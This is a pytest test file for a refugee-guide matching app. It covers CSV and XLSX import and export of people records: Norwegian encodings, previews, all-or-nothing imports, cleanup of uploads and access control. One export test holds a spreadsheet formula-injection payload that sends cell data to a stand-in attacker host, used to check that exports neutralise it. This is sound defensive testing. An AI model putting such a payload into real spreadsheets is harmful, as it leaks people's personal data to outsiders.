"""People files as Norwegian Excel, LibreOffice and Google Sheets write them: preview, import."""
from __future__ import annotations

import io
import json
import os
from datetime import date, timedelta

from openpyxl import Workbook, load_workbook

from guidematch.models import AuditEvent, Consent, Guide, Refugee
from guidematch.services import clock, people_csv
from guidematch.profile_csv import read_profile_bytes
from tests import factories
from tests.people.test_import_export import confirm, preview, upload

# What Norwegian Excel's "CSV (semikolondelt)" writes: cp1252, ';', CRLF, 15.03.2026, 69,6496.
NORWEGIAN_REFUGEES = (
    "Nr;Fornavn;Etternavn;E-post;Telefon;Kjønn;Ønsket kjønn;Fødselsår;Språk;Hjemland;"
    "Norsknivå;Venter siden;Tåler dyr;Breddegrad;Lengdegrad\r\n"
    "r1;Åsmund;Brænne;asmund@example.org;+47 900 00 001;mann;uansett;1988;\"ar;en\";SY;A1;"
    "15.03.2026;nei;69,6496;18,9553\r\n"
    "r2;Zoë;Ødegård;;;female;same;1999;uk;UA;none;2026-01-02;ja;;\r\n"
)


GUIDE_ROW = "id,first_name,last_name,gender,birth_year,languages\n"


def test_a_norwegian_excel_csv_is_previewed_then_imported(client, english, branch, db):
    page = preview(client, NORWEGIAN_REFUGEES.encode("cp1252"), kind="refugee",
                   filename="flyktninger.csv").get_data(as_text=True)
    assert "read as Windows-1252 text, separated by semicolons (;)." in page
    assert "2 rows add new people" in page and "0 rows are refused" in page
    assert "Åsmund Brænne" in page and "Zoë Ødegård" in page
    assert db.session.query(Refugee).count() == 0  # a preview writes nothing

    page = confirm(client).get_data(as_text=True)
    assert "Imported 2 refugees (2 new, 0 updated)." in page
    asmund = db.session.query(Refugee).filter_by(ref="r1").one()
    assert (asmund.first_name, asmund.last_name, asmund.phone) == ("Åsmund", "Brænne", "+47 900 00 001")
    assert asmund.waiting_since == date(2026, 3, 15) and asmund.pets_ok is False
    assert (asmund.lat, asmund.lon) == (69.6496, 18.9553) and asmund.languages == ("ar", "en")
    zoe = db.session.query(Refugee).filter_by(ref="r2").one()
    assert zoe.waiting_since == date(2026, 1, 2) and zoe.pets_ok is True and zoe.email is None


def test_an_excel_workbook_is_imported_with_its_typed_cells(client, english, branch, db):
    book = Workbook()
    book.active.append(["id", "fornavn", "etternavn", "kjønn", "fødselsår", "språk", "kapasitet",
                        "har bil", "breddegrad"])
    book.active.append(["g1", "Kari", "Nordmann", "female", 1970, "nb", 2, "ja", 69.5])
    book.active.append(["g2", "Ola", "Nordmann", "male", 1980.0, "nb;en", None, None, None])
    buffer = io.BytesIO()
    book.save(buffer)
    page = preview(client, buffer.getvalue(), filename="guider.xlsx").get_data(as_text=True)
    assert "read as an Excel workbook (the first sheet)." in page
    assert "Imported 2 guides (2 new, 0 updated)." in confirm(client).get_data(as_text=True)
    kari = db.session.query(Guide).filter_by(ref="g1").one()
    assert (kari.birth_year, kari.capacity, kari.has_car, kari.lat) == (1970, 2, True, 69.5)
    assert db.session.query(Guide).filter_by(ref="g2").one().birth_year == 1980


def test_the_preview_lists_updates_with_their_columns_and_every_refused_row(client, english,
                                                                            branch, db):
    factories.make_guide(branch, ref="g1", first_name="Kari", last_name="Nordmann", phone="1")
    text = ("id;fornavn;etternavn;telefon;kjønn;fødselsår;språk\n"
            "g1;Kari;Nordmann;+47 2;female;1970;nb\n"
            "g2;Ola;Berg;;robot;1970;nb\n"
            "g3;Per;Lund;;male;2019;nb\n"
            "g4;Liv;Dahl;;female;1971;nb\n")
    page = preview(client, text).get_data(as_text=True)
    assert "1 row adds a new person" in page and "1 row updates a person" in page
    assert "2 rows are refused" in page
    assert "<td>Kari Nordmann</td><td class=\"text-break\">4 (telefon)" in page
    assert "<td>3</td><td>5 (kjønn)</td><td><code class=\"text-break\">robot</code></td>" in page
    assert "<td>4</td><td>6 (fødselsår)</td>" in page  # refused by the people service's age rule
    assert 'action="/import/confirm"' not in page
    db.session.expire_all()
    assert db.session.query(Guide).count() == 1
    assert db.session.query(Guide).filter_by(ref="g1").one().phone == "1"


def test_a_row_the_service_refuses_after_others_were_saved_leaves_nothing(client, english,
                                                                           branch, db):
    """All or none, at the database: rows 2-3 are flushed before row 4 is refused."""
    text = ("id,first_name,last_name,gender,birth_year,languages\n"
            "g1,Kari,Nordmann,female,1970,nb\ng2,Ola,Berg,male,1971,nb\n"
            f"g3,Per,Lund,male,{clock.today().year - 10},nb\n")
    preview(client, text)
    with client.session_transaction() as session:
        token = session["people_import"]
    page = client.post("/import/confirm", data={"token": token},
                       follow_redirects=True).get_data(as_text=True)
    assert "Nothing was imported" in page and "line 4, column 5 (birth_year)" in page
    assert db.session.query(Guide).count() == 0 and db.session.query(Consent).count() == 0
    assert db.session.query(AuditEvent).filter_by(action="profiles_imported").count() == 0


def test_errors_name_the_column_as_the_file_does_in_the_coordinators_language(client, logged_in,
                                                                              branch, db):
    text = "nr;fornavn;kjønn\ng1;Kari;robot\n"
    page = preview(client, text).get_data(as_text=True)
    assert "<td>2</td><td>3 (kjønn)</td>" in page and "må være en av female, male, other" in page
    page = preview(client, "nr;navn;kjønn\n").get_data(as_text=True)
    assert "linje 1, kolonne 2" in page and "navn" in page


def test_a_missing_required_column_is_named_with_its_norwegian_name(db, branch):
    try:
        people_csv.import_csv_text(branch, "guide", "id;kjønn\ng1;male\n", filename="g.csv")
    except Exception as error:  # noqa: BLE001 - the message is what we check
        assert "first_name / fornavn" in str(error)
    else:
        raise AssertionError("a file without first_name was imported")


def test_the_upload_is_deleted_after_the_import_and_old_ones_are_swept(client, english, branch,
                                                                      db, import_folder):
    upload(client, GUIDE_ROW + "g1,Kari,Nordmann,female,1970,nb\n")
    assert db.session.query(Guide).count() == 1
    assert os.listdir(import_folder) == []
    preview(client, "id,first_name,gender\ng2,Ola,male\n")  # abandoned: never confirmed
    assert len(os.listdir(import_folder)) == 2
    for path in import_folder.glob("*.json"):
        meta = json.loads(path.read_text())
        meta["created"] = (clock.now() - timedelta(hours=1, minutes=1)).isoformat()
        path.write_text(json.dumps(meta))
    page = client.get("/import/preview", follow_redirects=True).get_data(as_text=True)
    assert "Upload the file again" in page  # an hour old: no longer imported
    preview(client, "id,first_name,gender\ng3,Liv,female\n")  # the next upload sweeps
    assert len(os.listdir(import_folder)) == 2  # only the new one's .bin and .json


def test_another_coordinator_cannot_confirm_someone_elses_upload(app, client, english, branch, db):
    preview(client, "id,first_name,gender\ng1,Kari,female\n")
    with client.session_transaction() as session:
        token = session["people_import"]
    other_branch = factories.make_branch(slug="bodo")
    factories.make_user(email="other@example.org", branch=other_branch)
    other = app.test_client()
    other.post("/login", data={"email": "other@example.org", "password": factories.PASSWORD})
    with other.session_transaction() as session:
        session["people_import"] = token  # even holding the token
    page = other.post("/import/confirm", data={"token": token}, follow_redirects=True)
    assert db.session.query(Guide).count() == 0
    assert "/import/preview" not in page.request.path


def test_no_personal_data_in_the_urls_of_the_import(client, english, branch):
    response = preview(client, "id,first_name,gender\ng1,Kari,female\n")
    assert [r.location for r in response.history] == ["/import/preview"]


def test_an_export_opens_as_typed_cells_and_a_formula_name_stays_text(client, english, branch,
                                                                       db):
    evil = '=HYPERLINK("http://evil.example/?"&D2&E2;"Se profil")'
    factories.make_refugee(branch, ref="r1", first_name=evil, phone="+47 900 00 000",
                           birth_year=1990, waiting_since=date(2026, 3, 15), lat=69.6496)
    response = client.get("/refugees.xlsx")
    assert response.mimetype.endswith("spreadsheetml.sheet")
    sheet = load_workbook(io.BytesIO(response.data)).active
    header = [cell.value for cell in sheet[1]]
    row = {name: cell for name, cell in zip(header, sheet[2])}
    assert (row["first_name"].value, row["first_name"].data_type) == (evil, "s")
    assert row["birth_year"].value == 1990 and row["lat"].value == 69.6496
    assert row["waiting_since"].is_date and row["waiting_since"].value.date() == date(2026, 3, 15)
    assert row["status"].value == "waiting"

    text = client.get("/refugees.csv").get_data(as_text=True)
    assert text.startswith("\ufeffid,") and "'+47 900 00 000" in text
    assert '"\'=HYPERLINK(""http://evil.example/' in text
    # The export imports back unchanged: a round trip renames nobody.
    result = people_csv.import_csv_text(branch, "refugee", text, filename="export.csv")
    assert (result.updated, result.unchanged) == (0, 1)
    refugee = db.session.query(Refugee).filter_by(ref="r1").one()
    assert (refugee.first_name, refugee.phone) == (evil, "+47 900 00 000")


def test_the_xlsx_export_is_a_workbook_the_import_reads(db, branch):
    factories.make_guide(branch, ref="g1", first_name="Øystein", languages=("nb", "en"),
                         lat=69.5, lon=18.25)
    data = people_csv.export_xlsx(branch, "guide", "guides")
    file = read_profile_bytes(data, "guide", "guides.xlsx")
    assert file.encoding == "XLSX"
    record = file.records[0]
    assert (record.first_name, record.languages, record.lat, record.status) == (
        "Øystein", ("nb", "en"), 69.5, "available")


def test_a_crash_in_the_middle_of_an_import_leaves_nothing(client, english, branch, db,
                                                           monkeypatch):
    """Fault test: the process fails at row 4 after rows 2-3 were flushed; nothing is stored."""
    text = GUIDE_ROW + "".join(f"g{n},Kari{n},Nordmann,female,1970,nb\n" for n in range(1, 6))
    preview(client, text)
    with client.session_transaction() as session:
        token = session["people_import"]
    real, calls = people_csv.create_person, []

    def failing(*args, **kwargs):
        calls.append(1)
        if len(calls) == 3:
            raise OSError("disk gone")
        return real(*args, **kwargs)

    monkeypatch.setattr(people_csv, "create_person", failing)
    try:
        client.post("/import/confirm", data={"token": token})
    except OSError:
        pass  # the test client propagates the crash; production shows the 500 page
    db.session.remove()
    assert len(calls) == 3
    assert db.session.query(Guide).count() == 0 and db.session.query(Consent).count() == 0
    monkeypatch.setattr(people_csv, "create_person", real)
    page = client.post("/import/confirm", data={"token": token}, follow_redirects=True)
    assert "Imported 5 guides (5 new, 0 updated)." in page.get_data(as_text=True)  # kept: retry
